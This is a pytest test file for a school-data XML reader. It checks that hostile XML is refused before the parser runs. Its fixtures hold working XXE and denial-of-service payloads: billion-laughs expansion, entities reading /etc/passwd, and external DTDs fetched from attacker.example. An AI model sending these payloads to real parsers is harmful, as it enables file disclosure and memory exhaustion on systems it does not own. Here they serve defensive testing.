"""Hostile XML is refused quickly with a clear error (issue 3, Reading; DESIGN.md, CTF format).

A DTD is refused from the file's first bytes, before the parser is started, so entity
expansion and external entities never run: the speed is structural, not timed here.
"""

import io

import pytest

from s2s.ctf import reader
from s2s.ctf.errors import HostileXMLError, WrongRootError
from s2s.ctf.reader import CTFReader, Limits, read_ctf
from s2s.ctf.tests.conftest import make_ctf
from s2s.ctf.validate import validate_ctf

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<CTfile><Header><DocumentName>&lol9;</DocumentName></Header></CTfile>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<CTfile><Header><DocumentName>&secret;</DocumentName></Header></CTfile>"""
EXTERNAL_DTD = b"""<!DOCTYPE CTfile SYSTEM "http://attacker.example/evil.dtd"><CTfile/>"""
PARAMETER_ENTITY = b"""<!DOCTYPE CTfile [<!ENTITY % remote SYSTEM "http://attacker.example/x">
%remote;]><CTfile/>"""
QUADRATIC = (b'<!DOCTYPE CTfile [<!ENTITY a "' + b"x" * 50_000 + b'">]><CTfile><Header>'
             + b"&a;" * 50_000 + b"</Header></CTfile>")
HIDDEN_AFTER_COMMENT = (b'<?xml version="1.0"?>\n<!-- <CTfile> -->\n<?pi x?>\n'
                        b"<!doctype CTfile [<!ENTITY a 'b'>]><CTfile/>")


@pytest.fixture
def parser_never_runs(monkeypatch):
    """Fail the test if the XML parser is started: the refusal must come first."""

    def refuse(*args, **kwargs):
        raise AssertionError("the parser ran on hostile XML")

    monkeypatch.setattr(reader.etree, "iterparse", refuse)


@pytest.mark.parametrize(
    "content",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, QUADRATIC,
     HIDDEN_AFTER_COMMENT, b"\xef\xbb\xbf" + EXTERNAL_ENTITY,
     EXTERNAL_ENTITY.decode().replace("<?xml version=\"1.0\"?>", "").encode("utf-16")],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity",
         "quadratic-blowup", "doctype-after-comment-and-pi", "utf8-bom", "utf16"],
)
def test_hostile_dtd_is_refused_before_parsing(content, parser_never_runs):
    """Issue 3, Reading: DTDs, entity expansion and external entities are refused."""
    with pytest.raises(HostileXMLError, match="document type declaration"):
        CTFReader(source=content)


def test_billion_laughs_refuses_the_file_in_the_report():
    report = validate_ctf(source=BILLION_LAUGHS)
    assert not report.accepted
    assert report.errors[0].code == "hostile_xml"
    assert report.pupils == []


def test_excessive_depth_is_refused_as_hostile():
    """Issue 3, Reading: excessive depth."""
    deep = b"<CTfile>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</CTfile>"
    with pytest.raises(HostileXMLError, match="nested deeper than 256 levels"):
        read_ctf(source=deep)


def test_huge_text_node_is_refused_as_hostile():
    """Issue 3, Reading: excessive size of one element."""
    huge = make_ctf(surname="x" * 11_000_000)
    with pytest.raises(HostileXMLError, match="more than 10 MB of text"):
        read_ctf(source=huge)


def test_too_many_elements_outside_a_pupil_are_refused():
    """Issue 3, Reading: memory stays bounded however the elements are arranged."""
    junk = b"<CTfile>" + b"<x/>" * 2_000 + b"</CTfile>"
    with pytest.raises(HostileXMLError, match="more than 1000 elements without a pupil"):
        read_ctf(source=junk, limits=Limits(max_elements_per_pupil=1_000))


def test_too_many_bytes_in_one_pupil_are_refused():
    content = make_ctf(extra="<SuppInfo>" + ("<x>" + "abc" * 400 + "</x>") * 2_000 + "</SuppInfo>")
    with pytest.raises(HostileXMLError, match="MB without a pupil ending"):
        read_ctf(source=content, limits=Limits(max_bytes_per_pupil=1 << 20))


@pytest.mark.parametrize("wrap", [bytes, io.BytesIO], ids=["bytes", "stream"])
def test_file_over_the_size_limit_is_refused(wrap):
    """Issue 3, Reading: excessive size."""
    with pytest.raises(HostileXMLError, match="larger than"):
        read_ctf(source=wrap(make_ctf()), limits=Limits(max_bytes=200))


def test_file_over_the_size_limit_on_disk_is_refused_before_reading(tmp_path, parser_never_runs):
    path = tmp_path / "big.xml"
    path.write_bytes(make_ctf())
    with pytest.raises(HostileXMLError, match="larger than"):
        CTFReader(source=path, limits=Limits(max_bytes=200))


def test_long_prolog_is_refused(parser_never_runs):
    content = b"<!--" + b"x" * 70_000 + b"-->" + make_ctf()
    with pytest.raises(HostileXMLError, match="64 KB"):
        CTFReader(source=content)


def test_namespaced_root_is_refused(parser_never_runs):
    with pytest.raises(WrongRootError, match="namespace"):
        CTFReader(source=b'<CTfile xmlns="urn:evil"><Header/></CTfile>')


def test_xinclude_is_not_followed():
    content = make_ctf(extra='<x xmlns:xi="http://www.w3.org/2001/XInclude">'
                             '<xi:include href="/etc/passwd" parse="text"/></x>')
    report = validate_ctf(source=content)
    assert "root:" not in report.as_json()
